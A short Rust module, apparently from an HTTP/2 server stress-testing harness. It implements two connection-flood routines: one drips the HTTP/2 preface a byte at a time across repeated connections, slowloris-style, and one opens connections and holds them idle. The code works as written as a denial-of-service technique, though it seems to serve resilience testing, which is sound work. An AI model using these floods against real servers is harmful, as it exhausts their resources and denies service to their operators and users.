//! Floods of connections.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::AsyncWriteExt;

use super::Attacker;
use crate::prove::floods::frame::{PREFACE, settings};

pub(in super::super) async fn slow_preface(attacker: Arc<Attacker>) {
    while !attacker.is_over() {
        let Some(mut stream) = attacker.open().await else {
            continue;
        };
        for byte in PREFACE {
            if attacker.is_over() || stream.write_all(&[*byte]).await.is_err() {
                break;
            }
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
    }
}

pub(in super::super) async fn idle(attacker: Arc<Attacker>) {
    let Some(mut stream) = attacker.open().await else {
        return;
    };
    let mut hello = PREFACE.to_vec();
    settings(&mut hello, &[]);
    if stream.write_all(&hello).await.is_ok() {
        attacker.count(1);
        let _ = tokio::io::copy(&mut stream, &mut tokio::io::sink()).await;
    }
}
